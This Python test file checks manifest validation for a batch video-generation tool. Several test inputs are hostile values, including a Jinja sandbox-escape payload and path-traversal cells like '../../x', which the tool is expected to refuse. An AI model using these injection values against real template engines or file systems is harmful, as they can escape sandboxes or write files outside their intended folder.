"""assetprep batch: manifests, shared preparation, exactly once across kill -9, failures per row, the report.

Real SeaweedFS, the sandbox over HTTP, real Chromium on pages served from 127.0.0.1, real ffmpeg.
"""

from __future__ import annotations

import codecs
import collections
import json
import logging
import os
import shutil
import socket
import subprocess
import threading
from pathlib import Path

import pytest
from _batchkit import (
    BROKEN_REPLICA,
    PAGES,
    TRAINING_REPLICA,
    account,
    api_calls,
    cli,
    creates,
    is_blue,
    is_red,
    leads_manifest,
    read_results,
    write,
)
from _media import TEST_BUCKET, frame_rgb, pixel

from assetprep import _process
from assetprep._journal import BatchJournal
from assetprep.batch import BatchOptions, batch_publish
from assetprep.errors import ConfigError, ManifestError
from assetprep.manifest import load_manifest
from assetprep.probe import probe
from assetprep.publish import PublishSettings
from assetprep.sandbox import DEFAULT_REPLICA
from assetprep.tavus import TavusClient

# --- manifests and validation ----------------------------------------------------------------------------------------


def test_validation_reports_every_problem_with_its_row_and_starts_nothing(tmp_path, sandbox):
    write(tmp_path / "a.wav", "not audio, but it exists")
    manifest = write(tmp_path / "bad.csv", (
        "first_name,scirpt,script,audio,background,output,video_name\n"
        "Ann,x,Hi {{ first_name }},,https://example.com,same.mp4,one\n"          # 2: scirpt column (header)
        "Bob,x,Hi {{ frist_name }},,,,two\n"                                     # 3: undefined variable
        "Cid,x,Hi,a.wav,,,three\n"                                               # 4: script and audio
        "Dee,x,,,,,four\n"                                                       # 5: neither
        "Eve,x,,missing.wav,,,five\n"                                            # 6: missing file
        "Fay,x,Hi,,ftp://example.com/x,,six\n"                                   # 7: not an http(s) URL
        "Gus,x,Hi,,,same.mp4,seven\n"                                            # 8: same output as row 2
        "Hal,x,Hi,,,,one\n"                                                      # 9: video_name of row 2
        "Ivy,x,{{ ''.__class__.__mro__[1].__subclasses__() }},,,,nine\n"         # 10: sandbox escape
    ))  # fmt: skip
    with pytest.raises(ManifestError) as err:
        load_manifest(manifest, defaults={"replica_id": DEFAULT_REPLICA})
    problems = "\n".join(err.value.problems)
    assert "column 'scirpt': unknown option; did you mean 'script'?" in problems
    assert "row 3, column script: template variable missing: 'frist_name' is undefined" in problems
    assert "row 4: give exactly one of script (or script_file) and audio" in problems
    assert "row 5: give exactly one of script (or script_file) and audio" in problems
    assert f"row 6, column audio: file not found: {tmp_path / 'missing.wav'}" in problems
    assert "row 7, column background: not an http(s) URL: 'ftp://example.com/x'" in problems
    assert "row 8, column output:" in problems and "is written by row 2 too" in problems
    assert "row 9, column video_name: 'one' is used by row 2 too" in problems
    assert "row 10, column script: template not allowed" in problems
    assert len(err.value.problems) == 9

    # The CLI: every problem listed (the same one on two rows as one line), exit 1, no traceback, nothing created on
    # the API or on disk.
    env = {**os.environ, **sandbox.env(), "ASSETPREP_RUNS_DIR": str(tmp_path / "state" / "runs")}
    before = len(api_calls(sandbox))
    proc = cli(env, str(manifest), "--replica", DEFAULT_REPLICA, "--bucket", TEST_BUCKET)
    assert proc.returncode == 1
    assert "9 problem(s); nothing was started" in proc.stderr and "Traceback" not in proc.stderr
    assert "\n  rows 4-5 (2 rows): give exactly one of script (or script_file) and audio\n" in proc.stderr
    assert proc.stderr.count("\n  row ") + proc.stderr.count("\n  rows ") + proc.stderr.count("\n  column ") == 8
    assert len(api_calls(sandbox)) == before
    assert not (tmp_path / "state").exists() and not (tmp_path / "bad-videos").exists()


def test_a_list_or_mapping_or_a_malformed_id_as_an_option_is_a_problem_of_its_row(tmp_path):
    write(tmp_path / "m.yaml", "rows:\n  - {script: [1, 2]}\n  - {script: 'Hi', fast: {a: 1}}\n"
                               "  - {products: [a, b], script: '{% for p in products %}{{ p }};{% endfor %}'}\n")  # fmt: skip
    write(tmp_path / "m.jsonl", json.dumps({"script": "Hi", "video_name": ["x"]}) + "\n")
    with pytest.raises(ManifestError) as err:
        load_manifest(tmp_path / "m.yaml", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path)
    assert err.value.problems == [
        "rows[0], column script: a list, where one value goes (text, a number, true/false)",
        "rows[1], column fast: a mapping, where one value goes (text, a number, true/false)",
    ]
    write(tmp_path / "ids.csv", "script,replica_id\nHi,bad replica id\n")
    with pytest.raises(ManifestError, match=r"row 2, column replica_id: not an id \(letters, digits, - and _\)"):
        load_manifest(tmp_path / "ids.csv", out_dir=tmp_path)
    with pytest.raises(ManifestError, match="line 1, column video_name: a list"):
        load_manifest(tmp_path / "m.jsonl", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path)
    write(
        tmp_path / "ok.yaml", "rows:\n  - {products: [a, b], script: '{% for p in products %}{{ p }};{% endfor %}'}\n"
    )
    rows = load_manifest(tmp_path / "ok.yaml", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path).rows
    assert [r.script for r in rows] == ["a;b;"]


def test_an_output_that_is_any_rows_input_or_cannot_be_made_is_found_before_anything_starts(tmp_path):
    """Row 2's video would replace row 3's audio (an .mp4) after row 3 had read it, or before; a folder in the
    way would fail the download only after the video was paid for. All three are validation problems."""
    write(tmp_path / "talk.mp4", "an audio track in an mp4; it only has to exist here")
    (tmp_path / "out" / "taken.mp4").mkdir(parents=True)
    write(tmp_path / "out" / "blocker", "a file where a folder would go")
    manifest = write(tmp_path / "m.csv", (
        "script,audio,output\n"
        "Hi,,../talk.mp4\n"            # 2: row 3's input
        ",talk.mp4,three.mp4\n"         # 3
        "Hi again,,taken.mp4\n"        # 4: a folder
        "Bye,,blocker/x.mp4\n"         # 5: under a file
    ))  # fmt: skip
    with pytest.raises(ManifestError) as err:
        load_manifest(manifest, defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path / "out")
    out = (tmp_path / "out").resolve()
    assert err.value.problems == [
        f"row 4, column output: {out / 'taken.mp4'} is a folder",
        f"row 5, column output: cannot make a folder under {out / 'blocker'}: it is a file",
        f"row 2, column output: {tmp_path.resolve() / 'talk.mp4'} is an input (row 3, column audio)",
    ]
    # The sheet itself: a manifest named results.csv with --out its own folder, or --out a file.
    sheet = write(tmp_path / "results.csv", "script,output\nHi,videos/hi.mp4\n")
    for out, said in ((tmp_path, "the results sheet would replace the manifest"),
                      (tmp_path / "talk.mp4", "cannot make a folder under")):  # fmt: skip
        with pytest.raises((ConfigError, ManifestError), match=said):
            batch_publish(sheet, BatchOptions(out_dir=out, replica_id=DEFAULT_REPLICA))
    assert sheet.read_text() == "script,output\nHi,videos/hi.mp4\n"


def test_a_leads_value_cannot_move_an_output_or_pick_a_local_file_as_background(tmp_path):
    """Leads' cells come from a CRM: a company "../../x" wrote a video outside the output folder (over any .mp4
    the user can write), a website "/home/me/private.mp4" became the background of the video sent to that lead."""
    write(tmp_path / "private.mp4", "a clip of the user's own")
    (tmp_path / "campaign" / "clips").mkdir(parents=True)
    write(tmp_path / "campaign" / "clips" / "intro.mp4", "the campaign's own clip")
    manifest = write(tmp_path / "campaign" / "m.csv", (
        "company,site,script,output,background\n"
        f"../../x,acme.com,Hi,{{{{ company }}}}.mp4,{{{{ site }}}}\n"                      # 2: output climbs
        f"acme,{tmp_path / 'private.mp4'},Hi,{{{{ company }}}}.mp4,{{{{ site }}}}\n"   # 3: a file by a value
        f"beta,../private.mp4,Hi,{{{{ company }}}}.mp4,{{{{ site }}}}\n"                # 4: the same, relative
        "gamma,intro,Hi,../{{ company | slug }}.mp4,clips/{{ site }}.mp4\n"           # 5: the template's own ..
        f"delta,x,Hi,{tmp_path / 'v' / '{{ company }}.mp4'},../private.mp4\n"          # 6: literal paths
        "epsilon,a/b,Hi,{{ company }}/{{ site }}.mp4,https://{{ company }}.example\n"  # 7: a subfolder in it
    ))  # fmt: skip
    with pytest.raises(ManifestError) as caught:
        load_manifest(manifest, defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path / "out")
    assert caught.value.problems == [
        "row 2, column output: a template variable takes it out of its folder: '../../x.mp4' (pass names from "
        "the data through `| slug`)",
        f"row 3, column background: a template variable makes it the local path '{tmp_path / 'private.mp4'}'; a "
        "lead's value may name a website, not a file here",
        "row 4, column background: a template variable makes it the local path '../private.mp4'; a lead's value "
        "may name a website, not a file here",
    ]
    ok = write(
        tmp_path / "campaign" / "ok.csv",
        "\n".join(manifest.read_text().splitlines()[:1] + manifest.read_text().splitlines()[4:]) + "\n",
    )
    rows = load_manifest(ok, defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path / "out").rows
    assert [(str(r.output), r.background) for r in rows] == [
        (str(tmp_path / "gamma.mp4"), str(tmp_path / "campaign" / "clips" / "intro.mp4")),
        (str(tmp_path / "v" / "delta.mp4"), str(tmp_path / "campaign" / ".." / "private.mp4")),
        (str(tmp_path / "out" / "epsilon" / "a" / "b.mp4"), "https://epsilon.example"),
    ]


def test_rows_selects_by_number_and_an_open_ended_range_is_cut_at_the_last_row(tmp_path, sandbox):
    from assetprep.manifest import parse_rows

    # "from row 3 on": numbers past the last row are never made (a billion of them got the CLI OOM-killed here)
    assert parse_rows("3-1000000000", last=4) == {3, 4} and parse_rows("2,9", last=4) == {2}
    manifest = write(tmp_path / "three.csv", "script\nHi one\nHi two\nHi three\n")
    env = {**os.environ, **sandbox.env(), "ASSETPREP_RUNS_DIR": str(tmp_path / "state" / "runs")}
    proc = cli(env, str(manifest), "--replica", DEFAULT_REPLICA, "--dry-run", "--rows", "3-1000000000")
    assert proc.returncode == 0, proc.stderr
    assert "2 rows → 2 videos" in proc.stdout and "row 3: Hi two" in proc.stdout and "row 2:" not in proc.stdout
    proc = cli(env, str(manifest), "--replica", TRAINING_REPLICA, "--dry-run")
    assert proc.returncode == 0 and f"replica {TRAINING_REPLICA} is still training" in proc.stderr, proc.stderr
    for rows, said in [("5-3", "--rows must look like 3-10,17"), ("9", "--rows selects none of the 3 rows")]:
        proc = cli(env, str(manifest), "--replica", DEFAULT_REPLICA, "--dry-run", "--rows", rows)
        assert proc.returncode == 1 and said in proc.stderr and "Traceback" not in proc.stderr


def test_a_manifest_or_script_file_that_is_a_fifo_or_device_is_a_problem_not_a_wait(tmp_path):
    """Opening a FIFO waited for a writer (never), /dev/zero was read until memory ran out."""
    os.mkfifo(tmp_path / "pitch.txt")
    os.mkfifo(tmp_path / "leads.csv")
    write(tmp_path / "m.csv", "script_file\npitch.txt\n/dev/zero\n")
    errors: list[str] = []

    def load(name: str) -> None:
        try:
            load_manifest(tmp_path / name, defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path)
        except ManifestError as exc:
            errors.append("\n".join([exc.message, *exc.problems]))

    for name in ("m.csv", "leads.csv"):
        t = threading.Thread(target=load, args=(name,), daemon=True)
        t.start()
        t.join(20)
        for fifo in ("pitch.txt", "leads.csv"):  # frees a reader blocked on it (the old code), or does nothing
            os.close(os.open(tmp_path / fifo, os.O_RDWR | os.O_NONBLOCK))
        t.join(5)
        assert not t.is_alive(), f"loading {name} still waited after 20 s"
    not_regular = "not a regular file (a FIFO, a device or a folder)"
    assert f"row 2, column script_file: cannot read {tmp_path / 'pitch.txt'}: {not_regular}" in errors[0]
    assert f"row 3, column script_file: cannot read /dev/zero: {not_regular}" in errors[0]
    assert errors[1].startswith(f"cannot read manifest {tmp_path / 'leads.csv'}: {not_regular}")


def test_csv_bom_yaml_defaults_and_jsonl_render_the_same_rows(tmp_path):
    (tmp_path / "audio").mkdir()
    script = write(tmp_path / "pitch.txt", "Hello {{ first_name }} from {{ company }}!")
    write(tmp_path / "m.csv", "\ufefffirst_name,company,script_file,output\nAnna,Acme Café,pitch.txt,"
                              "out/{{ company | slug }}.mp4\n\n")  # fmt: skip
    write(tmp_path / "m.yaml", "defaults:\n  script_file: pitch.txt\n  replica_id: r79e1c033f\n"
                               "  background_seconds: 4\nrows:\n  - {first_name: Anna, company: Acme Café,"
                               " output: 'out/{{ company | slug }}.mp4'}\n")  # fmt: skip
    write(tmp_path / "m.jsonl", json.dumps({"first_name": "Anna", "company": "Acme Café", "script_file": "pitch.txt",
                                            "output": "out/{{ company | slug }}.mp4"}) + "\n")  # fmt: skip
    # A spreadsheet's "CSV" export with semicolons (many locales), and a .tsv: the same row
    write(tmp_path / "semi.csv", "first_name;company;script_file;output\nAnna;Acme Café;pitch.txt;"
                                 "out/{{ company | slug }}.mp4\n")  # fmt: skip
    write(tmp_path / "m.tsv", "first_name\tcompany\tscript_file\toutput\nAnna\tAcme Café\tpitch.txt\t"
                              "out/{{ company | slug }}.mp4\n")  # fmt: skip
    rows = {}
    for name in ("m.csv", "m.yaml", "m.jsonl", "semi.csv", "m.tsv"):
        m = load_manifest(tmp_path / name, defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path)
        assert len(m.rows) == 1
        rows[name] = m.rows[0]
        assert rows[name].script == "Hello Anna from Acme Café!"
        assert rows[name].output == tmp_path / "out" / "acme-cafe.mp4"
    assert (rows["m.csv"].where, rows["m.yaml"].where, rows["m.jsonl"].where) == ("row 2", "rows[0]", "line 1")
    assert rows["m.yaml"].options.replica_id == "r79e1c033f" and rows["m.yaml"].options.background_seconds == 4
    assert rows["m.csv"].row_id == rows["m.jsonl"].row_id != rows["m.yaml"].row_id  # different replica and length
    assert rows["semi.csv"].row_id == rows["m.tsv"].row_id == rows["m.csv"].row_id
    assert script.exists()
    # Excel's "Unicode Text" (UTF-16 with its BOM, tabs) and a script Notepad saved with a UTF-8 BOM: the BOM was
    # read as the script's first character (sent to Tavus), and a UTF-16 file was refused as not UTF-8.
    (tmp_path / "x16.tsv").write_bytes("first_name\tcompany\tscript_file\toutput\nAnna\tAcme Café\tbom.txt\t"
                                       "out/{{ company | slug }}.mp4\n".encode("utf-16"))  # fmt: skip
    (tmp_path / "bom.txt").write_bytes(codecs.BOM_UTF8 + script.read_bytes())
    row = load_manifest(tmp_path / "x16.tsv", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path).rows[0]
    assert row.script == "Hello Anna from Acme Café!" and row.output == rows["m.csv"].output


def test_text_and_field_templates_render_without_jinja_exactly_as_jinja_does():
    """Per-row scripts are distinct templates; those made of text and {{ name }} only skip Jinja's compile (20,000
    rows: 15 s -> 3 s). The short cut must give Jinja's text, newlines and errors."""
    import jinja2

    from assetprep.manifest import _ENV, _fields_only, _render

    variables = {"first_name": "Anna", "n": 3, "ok": True, "x": 1.5, "tags": ["a", "b"], "_p": "p"}
    quick = [
        "Hi",
        "Hi\n",
        "Hi\r\nthere\r\n",
        "a\rb\n\n",
        "{{ first_name }}",
        "{{\n first_name\n}}!",
        "Hi {{first_name}}, {{ n }} {{ ok }} {{ x }} {{ tags }} {{ _p }}\n",
        "a > b; x = y.",
        "",
    ]
    jinja = ["{ {{ first_name }} }", "{{ first_name }}}", "{% if ok %}y{% endif %}", "{# c #}x", "a } b",
             "{{ first_name | upper }}", "{{ tags[0] }}", "{{ 'x' }}"]  # fmt: skip
    assert all(_fields_only(t) is not None for t in quick) and all(_fields_only(t) is None for t in jinja)
    for template in quick + jinja:
        problems: list[str] = []
        rendered = _render(template, variables, "row 2", "script", problems, list(variables))
        assert rendered == _ENV.from_string(template).render(variables), template
        assert problems == []
    with pytest.raises(jinja2.exceptions.UndefinedError) as caught:
        _ENV.from_string("{{ missing }}").render(variables)
    for template in ("Hi {{ missing }}", "Hi {{ missing | upper }}"):
        problems = []
        assert _render(template, variables, "row 2", "script", problems, list(variables)) is None
        assert problems == [f"row 2, column script: template variable missing: {caught.value.message} "
                            "(columns: _p, first_name, n, ok, tags, x)"]  # fmt: skip


def test_the_demo_campaign_is_three_personal_rows_over_two_recordings(tmp_path):
    """scripts/demo runs examples/leads.csv: it must stay valid, and show sharing (3 rows, 2 recordings)."""
    from assetprep.batch import S3Target, plan_preparations

    examples = Path(__file__).resolve().parent.parent / "examples"
    rows = load_manifest(examples / "leads.csv", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path).rows
    assert [r.script.split(",")[0] for r in rows if r.script] == ["Hi Maria", "Hi Jon", "Hi Lena"]
    assert [r.output.name for r in rows] == ["acme-analytics-maria.mp4", "acme-analytics-jon.mp4", "globex-lena.mp4"]
    preps, _ = plan_preparations(rows, settings=PublishSettings(runs_dir=tmp_path / "runs"), options=BatchOptions(),
                                 s3=S3Target(bucket="b", prefix="p"), keep_dir=None)  # fmt: skip
    assert sorted(Path(p.task.source).name for p in preps.values()) == ["globex.html", "page.html"]


def test_a_website_written_without_its_scheme_is_its_https_url(tmp_path):
    """CRM exports hold websites as "acme.com": every such row was a "file not found" problem."""
    (tmp_path / "site.com").mkdir()
    write(tmp_path / "site.com" / "index.html", "<h1>a local folder of that name wins</h1>")
    write(tmp_path / "m.csv", "script,background\nHi,acme.com\nHi,www.acme.co.uk/team?ref=1\nHi,acme.com:8443/x\n"
                              "Hi,site.com\nHi,https://acme.com/a\n")  # fmt: skip
    rows = load_manifest(tmp_path / "m.csv", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path).rows
    assert [r.background for r in rows] == ["https://acme.com", "https://www.acme.co.uk/team?ref=1",
                                            "https://acme.com:8443/x", str(tmp_path / "site.com"),
                                            "https://acme.com/a"]  # fmt: skip
    # Internationalized names (they were "file not found") and spaces in a path, as a browser sends them.
    write(tmp_path / "i.csv", "script,background\nHi,münchen.de\nHi,例え.jp/会社 概要\nHi,https://acme.com/a b?q=a b\n")
    rows = load_manifest(tmp_path / "i.csv", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path).rows
    assert [r.background for r in rows] == ["https://münchen.de", "https://例え.jp/会社%20概要",
                                            "https://acme.com/a%20b?q=a%20b"]  # fmt: skip
    # Padded cells, a fully qualified name, a protocol-relative URL (each was "file not found").
    write(tmp_path / "p.csv", "script,background\nHi, acme.com\nHo,beta.com \nHu,www.gamma.com.\nHa,//delta.com/x\n")
    rows = load_manifest(tmp_path / "p.csv", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path).rows
    assert [r.background for r in rows] == ["https://acme.com", "https://beta.com", "https://www.gamma.com.",
                                            "https://delta.com/x"]  # fmt: skip
    write(tmp_path / "speech.wav", "only has to exist here")
    write(tmp_path / "a.csv", "audio,replica_id\n speech.wav , r1234567890 \n")
    [row] = load_manifest(tmp_path / "a.csv", out_dir=tmp_path).rows
    assert (row.audio, row.options.replica_id) == (tmp_path / "speech.wav", "r1234567890")
    write(tmp_path / "n.csv", "script,background\nHi,intro.mp4\nHi,promo\nHi,https://acme .com/\nHi,info@acme.com\n")
    with pytest.raises(ManifestError) as caught:
        load_manifest(tmp_path / "n.csv", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path)
    assert caught.value.problems == [f"row 2, column background: file not found: {tmp_path / 'intro.mp4'}",
                                     f"row 3, column background: file not found: {tmp_path / 'promo'}",
                                     "row 4, column background: not an http(s) URL: 'https://acme .com/'",
                                     "row 5, column background: 'info@acme.com' is an e-mail address, not a website",
                                     ]  # fmt: skip


def test_the_same_problem_on_many_rows_is_one_line_and_the_list_is_bounded(tmp_path):
    """A 50,000-row export with a stray comma in every script printed 50,000 lines of "row N: 5 cells but only 4
    columns" (measured). The same problem on many rows is one line; a terminal gets at most 40 lines of them. The
    error's `problems` keeps every one."""
    lines = ["first_name,script"]
    lines += [f"L{i},Hi, there" for i in range(300)]  # 3 cells: every row the same problem
    lines += [f"M{i},Hi {{{{ first_name }}}} {{{{ v{i} }}}}" for i in range(60)]  # 60 different problems
    write(tmp_path / "big.csv", "\n".join(lines) + "\n")
    with pytest.raises(ManifestError) as caught:
        load_manifest(tmp_path / "big.csv", defaults={"replica_id": DEFAULT_REPLICA})
    assert len(caught.value.problems) == 360
    shown = str(caught.value).splitlines()
    assert shown[0] == f"{tmp_path / 'big.csv'}: 360 problem(s); nothing was started"
    assert shown[1] == "  rows 2-301 (300 rows): 3 cells but only 2 columns"
    assert shown[2].startswith("  row 302, column script: template variable missing: 'v0' is undefined")
    assert len(shown) == 1 + 40 + 1 and shown[-1] == "  ... and 21 more"


def test_a_column_of_websites_that_nothing_uses_is_a_problem_until_it_is_used_or_waived(tmp_path, sandbox, s3,
                                                                                          s3_client):  # fmt: skip
    """A CRM export's website column, no background anywhere: every video was made, and paid for, without the
    lead's site, and the plan said '0 backgrounds' only. --background '{{ website }}' uses it, --no-background
    says it is meant."""
    manifest = write(tmp_path / "crm.csv", "first_name,company,website,email\nAna,Acme,acme.com,ana@acme.com\n"
                                           "Bo,Beta,https://beta.io/team,bo@beta.io\nCy,,www.gamma.com.,cy@gamma.com\n")  # fmt: skip
    said = ("column website: holds websites (acme.com), but no row has a background and no template uses it: to "
            "record each lead's website behind its video, set background to '{{ website }}' (a background column, "
            "the YAML defaults, or batch --background '{{ website }}'); to make the videos without it, say so "
            "(batch --no-background)")  # fmt: skip
    base = {"replica_id": DEFAULT_REPLICA, "script": "Hi {{ first_name }} from {{ company | default('your team') }}."}
    with pytest.raises(ManifestError) as caught:
        load_manifest(manifest, defaults=base, out_dir=tmp_path)
    assert caught.value.problems == [said]  # the e-mail column is not one of websites
    used = load_manifest(manifest, defaults={**base, "background": "{{ website }}"}, out_dir=tmp_path).rows
    assert [r.background for r in used] == ["https://acme.com", "https://beta.io/team", "https://www.gamma.com."]
    assert [r.script for r in used][2] == "Hi Cy from your team."
    waived = load_manifest(manifest, defaults=base, out_dir=tmp_path, no_background=True).rows
    assert [r.background for r in waived] == [None, None, None]
    # A lead without a website: named, and `default('')` makes that row's video without a background (an empty
    # background was the manifest's own folder, recorded as a page).
    write(tmp_path / "gap.csv", "first_name,website\nAna,acme.com\nBo,\n")
    with pytest.raises(ManifestError) as caught:
        load_manifest(tmp_path / "gap.csv", defaults={**base, "background": "{{ website }}"}, out_dir=tmp_path)
    assert caught.value.problems == ["row 3, column background: {{ website }} is empty in this row (fill it in, or "
                                     "write {{ website | default('') }} to make this row's video without one)"]  # fmt: skip
    gap = load_manifest(tmp_path / "gap.csv", defaults={**base, "background": "{{ website | default('') }}"},
                        out_dir=tmp_path).rows  # fmt: skip
    assert [r.background for r in gap] == ["https://acme.com", None]
    read_out = load_manifest(manifest, defaults={**base, "script": "I looked at {{ website }}."}, out_dir=tmp_path)
    assert read_out.rows[0].script == "I looked at acme.com."  # a script that names the site uses the column
    kept = load_manifest(manifest, defaults={**base, "script": "{% set site = website %}Saw {{ site }}."},
                         out_dir=tmp_path)  # fmt: skip
    assert kept.rows[1].script == "Saw https://beta.io/team."
    # The word in a script's text or a comment is not a use (it was: "I loved your website" hid the problem).
    for words in ("Hi {{ first_name }}, I loved your website.", "Hi {{ first_name }}{# website later #}."):
        with pytest.raises(ManifestError) as caught:
            load_manifest(manifest, defaults={**base, "script": words}, out_dir=tmp_path)
        assert caught.value.problems == [said]
    # A variable a row leaves empty is named as empty (it was "undefined (columns: ...)" though the column exists);
    # a misspelt one gets the column it was meant to be.
    with pytest.raises(ManifestError) as caught:
        load_manifest(manifest, defaults={**base, "script": "Hi {{ company }}, {{ frist_name }}"}, out_dir=tmp_path,
                      no_background=True)  # fmt: skip
    assert caught.value.problems == [
        "row 2, column script: template variable missing: 'frist_name' is undefined; did you mean 'first_name'?",
        "row 3, column script: template variable missing: 'frist_name' is undefined; did you mean 'first_name'?",
        "row 4, column script: {{ company }} is empty in this row (fill it in, or write {{ company | "
        "default('...') }} in the template)",
    ]
    # The CLI: refused with the words above; --background plans three recordings; both flags contradict.
    env = {**os.environ, **sandbox.env(), **s3.env(), "ASSETPREP_BUCKET": TEST_BUCKET,
           "ASSETPREP_RUNS_DIR": str(tmp_path / "state" / "runs")}  # fmt: skip
    script = ["--replica", DEFAULT_REPLICA, "--dry-run"]
    write(manifest, "script,website\nHi Ana,acme.com\nHi Bo,https://beta.io/team\nHi Cy,www.gamma.com.\n")
    proc = cli(env, str(manifest), *script)
    assert proc.returncode == 1 and said in " ".join(proc.stderr.split()) and "Traceback" not in proc.stderr
    proc = cli(env, str(manifest), *script, "--background", "{{ website }}")
    assert proc.returncode == 0 and "3 background(s) and 0 audio file(s) to prepare" in proc.stdout, proc.stderr
    proc = cli(env, str(manifest), *script, "--no-background")
    assert proc.returncode == 0 and "0 background(s)" in proc.stdout, proc.stderr
    proc = cli(env, str(manifest), *script, "--no-background", "--background", "{{ website }}")
    assert proc.returncode == 1 and "--background and --no-background contradict each other" in proc.stderr
    # A clip named on the command line is found where the user stands, not beside the manifest.
    (tmp_path / "here").mkdir()
    write(tmp_path / "here" / "intro.mp4", "only has to exist for the plan")
    proc = cli(env, str(manifest), *script, "--background", "intro.mp4", cwd=tmp_path / "here")
    assert proc.returncode == 0 and "1 background(s)" in proc.stdout, proc.stderr


def test_crm_headers_with_spaces_and_capitals_are_named_in_identifier_form(tmp_path):
    """HubSpot, Salesforce and Apollo exports head columns "First Name", "Company Name", "Website URL": no template
    could name them ({{ First Name }} is a syntax error) and "did you mean 'First Name'?" pointed at that."""
    manifest = write(tmp_path / "crm.csv", "First Name,Company Name,Website URL,Phone Number,phone-number\n"
                                           "Ana,Acme,acme.com,1,2\nBo,,beta.io,3,4\n")  # fmt: skip
    base = {"replica_id": DEFAULT_REPLICA, "background": "{{ website_url }}"}
    script = "Hi {{ first_name }} at {{ company_name | default('your team') }}."
    rows = load_manifest(manifest, defaults={**base, "script": script}, out_dir=tmp_path).rows
    assert [(r.script, r.background) for r in rows] == [("Hi Ana at Acme.", "https://acme.com"),
                                                        ("Hi Bo at your team.", "https://beta.io")]  # fmt: skip
    assert rows[0].values["First Name"] == "Ana" and "first_name" not in rows[0].values  # results keep the headers
    cases = {
        "Hi {{ First Name }}, {{Company Name|upper}}": "row 2, column script: template syntax error: write "
        "{{ first_name }} for the column 'First Name'; write {{ company_name }} for the column 'Company Name'",
        "Hi {{ frist_name }}": "row 2, column script: template variable missing: 'frist_name' is undefined; did you "
        "mean 'first_name'?",
        "Hi {{ company_name }}": "row 3, column script: {{ company_name }} (column 'Company Name') is empty in this "
        "row (fill it in, or write {{ company_name | default('...') }} in the template)",
    }
    for template, said in cases.items():
        with pytest.raises(ManifestError) as caught:
            load_manifest(manifest, defaults={**base, "script": template}, out_dir=tmp_path)
        assert caught.value.problems[0] == said
    # A video_name that happens to be a column's name is not "used by" that column.
    write(tmp_path / "v.csv", "first_name,video_name\nAna,first_name\n")
    [row] = load_manifest(
        tmp_path / "v.csv", defaults={"replica_id": DEFAULT_REPLICA, "script": "Hi"}, out_dir=tmp_path
    ).rows
    assert row.video_name == "first_name"
    # Two columns with one identifier form ("Phone Number", "phone-number"): neither is taken for the other.
    with pytest.raises(ManifestError, match="problem"):
        load_manifest(manifest, defaults={**base, "script": "{{ phone_number }}"}, out_dir=tmp_path)


def test_a_manifest_or_script_in_a_legacy_encoding_is_refused_with_its_line(tmp_path):
    """Excel's plain "CSV" on Windows is cp1252: guessing would put "JosÃ©" in a video; the error says where."""
    write(tmp_path / "pitch.txt", "Hello {{ first_name }}")
    (tmp_path / "leads.csv").write_bytes(b"first_name,script_file\nAnna,pitch.txt\nJos\xe9,pitch.txt\n")
    with pytest.raises(ManifestError) as caught:
        load_manifest(tmp_path / "leads.csv", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path)
    assert caught.value.message == f"{tmp_path / 'leads.csv'} is not UTF-8 text (line 3: byte 0xe9 at offset 41)"
    assert "CSV UTF-8" in (caught.value.hint or "")
    (tmp_path / "cp.txt").write_bytes(b"Hello\nGr\xfc\xdfe {{ first_name }}")
    write(tmp_path / "m.csv", "first_name,script_file\nAnna,cp.txt\n")
    with pytest.raises(ManifestError) as caught:
        load_manifest(tmp_path / "m.csv", defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path)
    assert caught.value.problems == [
        f"row 2, column script_file: {tmp_path / 'cp.txt'} is not UTF-8 text (line 2: byte 0xfc at offset 8)"
    ]


def test_a_spreadsheet_file_is_named_as_one_with_how_to_save_it_as_csv(tmp_path):
    """A CRM export or a sales team's sheet comes as .xlsx: "unknown manifest type .xlsx" did not say what to do."""
    import zipfile

    for suffix in (".xlsx", ".ods"):
        sheet = tmp_path / f"leads{suffix}"
        with zipfile.ZipFile(sheet, "w") as z:  # what they are: zipped XML, not text
            z.writestr("xl/worksheets/sheet1.xml", bytes(range(256)) * 4)
        with pytest.raises(ManifestError) as caught:
            load_manifest(sheet, defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path)
        assert caught.value.message == f"{sheet} is a spreadsheet file ({suffix}), not a manifest"
        assert "CSV UTF-8" in (caught.value.hint or "") and "give the .csv" in (caught.value.hint or "")


def test_the_journals_row_states_in_memory_agree_with_the_file_from_threads_and_after_reopening(tmp_path):
    """The batch's loop reads states from memory (a query per read cost 20-60 ms at 10,000 rows); the file stays
    the truth: whatever eight threads write, the memory and a fresh open of the file say the same."""
    journal = BatchJournal(tmp_path / "j.sqlite")
    journal.add_rows([(f"r{i}", i) for i in range(400)])

    def work(start: int) -> None:
        for i in range(start, 400, 8):
            journal.update_row(f"r{i}", state="submitting", video_name=f"n{i}")
            journal.update_row(f"r{i}", state="submitted", video_id=f"v{i}", data={"submit_s": 0.1})
            if i % 3 == 0:
                journal.update_row(f"r{i}", state="failed", error="x")

    threads = [threading.Thread(target=work, args=(k,)) for k in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=30)
    journal.add_rows([("r5", 5), ("new", 400)])  # a known row keeps its state; a new one is pending
    journal.update_row("missing", state="ready")  # no such row: nothing anywhere

    def from_file(j: BatchJournal) -> dict:
        return {r["row_id"]: (r["state"], r["video_id"], r["video_name"], r["updated"]) for r in j.rows()}

    memory = {s.row_id: (s.state, s.video_id, s.video_name, s.updated) for s in journal.states()}
    assert memory == from_file(journal) and len(memory) == 401
    assert memory["r3"][:3] == ("failed", "v3", "n3") and memory["r5"][:3] == ("submitted", "v5", "n5")
